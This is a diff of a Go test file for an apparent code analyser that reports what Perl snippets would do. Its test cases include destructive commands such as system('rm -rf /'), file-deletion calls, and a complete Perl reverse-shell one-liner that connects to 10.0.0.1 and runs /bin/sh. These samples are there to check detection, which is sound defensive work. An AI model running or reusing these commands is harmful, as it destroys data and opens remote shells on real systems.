@@ -8,7 +8,7 @@ import (
 	"github.com/stretchr/testify/require"
 )
 
-var perlCommands = []pythonCase{
+var perlCommands = []readCase{
 	{"system", `system("rm -rf /")`, `shell system "rm -rf /"`},
 	{"without brackets", `system "rm -rf /"`, `shell system "rm -rf /"`},
 	{"a list", `system("rm", "-rf", "/")`, `runs system "rm" "-rf" "/"`},
@@ -80,7 +80,7 @@ var perlCommands = []pythonCase{
 	{"interpolated elements and methods", `print "$x->{a}[0] $h{b} $a[1] @{$z} $y->[0]{c} a@b $x[$i] [$x] {$y} $$ $& $1"; system("id")`, `shell system "id"`},
 }
 
-var perlFiles = []pythonCase{
+var perlFiles = []readCase{
 	{
 		"deleted", `unlink "a", "b"; unlink("c"); rmdir "d"; unlink glob("/x/*.o"); unlink <*.c>; unlink for "e"`,
 		"deletes unlink \"a\"\ndeletes unlink \"b\"\ndeletes unlink \"c\"\ndeletes rmdir \"d\"\ndeletes unlink /x/?\ndeletes unlink ?\ndeletes unlink \"e\"",
@@ -104,7 +104,7 @@ var perlFiles = []pythonCase{
 	{"Path::Tiny", `use Path::Tiny; path("/x")->remove_tree; path("a", "b")->spew("x")`, "deletes remove_tree \"/x\" /**\nwrites spew \"a\""},
 }
 
-var perlNetwork = []pythonCase{
+var perlNetwork = []readCase{
 	{
 		"a reverse shell", `use Socket;$i="10.0.0.1";$p=4242;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,">&S");open(STDOUT,">&S");open(STDERR,">&S");exec("/bin/sh -i");};`,
 		"connects connect \"10.0.0.1\"\nshell exec \"/bin/sh -i\"",
@@ -143,16 +143,6 @@ func TestPerlCommands(t *testing.T) { runCases(t, "perl", perlCommands) }
 func TestPerlFiles(t *testing.T)    { runCases(t, "perl", perlFiles) }
 func TestPerlNetwork(t *testing.T)  { runCases(t, "perl", perlNetwork) }
 
-func quiet(t *testing.T, lang string, programs []string) {
-	t.Helper()
-	for _, code := range programs {
-		acts, err := Read(lang, code)
-		if assert.NoError(t, err, code) {
-			assert.Empty(t, show(acts), code)
-		}
-	}
-}
-
 func TestPerlThatOnlyChangesText(t *testing.T) { quiet(t, "perl", perlQuiet) }
 
 func TestPerlOperands(t *testing.T) {
@@ -162,7 +152,7 @@ func TestPerlOperands(t *testing.T) {
 }
 
 func TestPerlThatCannotBeRead(t *testing.T) {
-	for reason, code := range map[string]string{
+	unreadable(t, "perl", map[string]string{
 		"unterminated string":          `print "x`,
 		"unterminated pattern":         `s/x/y`,
 		"open block":                   `if (1) {`,
@@ -179,17 +169,11 @@ func TestPerlThatCannotBeRead(t *testing.T) {
 		"signs too many":               strings.Repeat("! ", 10000) + "1",
 		"strings in strings too deep":  strings.Repeat(`"@{[ `, 30) + strings.Repeat(` ]}"`, 30),
 		"a variable that never closes": `print "${x"`,
-	} {
-		t.Run(reason, func(t *testing.T) {
-			acts, err := Read("perl", code)
-			require.Error(t, err)
-			assert.Nil(t, acts)
-		})
-	}
+	})
 }
 
-func TestPerlIsReadInLinearTime(t *testing.T) {
-	for reason, code := range map[string]string{
+func TestPerlIsBounded(t *testing.T) {
+	bounded(t, "perl", map[string]string{
 		"doubling":       `$a = "x"; ` + strings.Repeat("$a = $a . $a; ", 5000) + "system($a)",
 		"statements":     strings.Repeat(`$c = "id"; system($c);`, 5000),
 		"open variables": `"` + strings.Repeat("${", 20000) + `"`,
@@ -198,11 +182,7 @@ func TestPerlIsReadInLinearTime(t *testing.T) {
 		"here-documents": strings.Repeat("print <<E;\nE\n", 5000),
 		"globs":          strings.Repeat("<", 50000),
 		"dereferences":   strings.Repeat("@{", 50000),
-	} {
-		t.Run(reason, func(t *testing.T) {
-			_, _ = Read("perl", code)
-		})
-	}
+	})
 }
 
 func FuzzPerl(f *testing.F) {
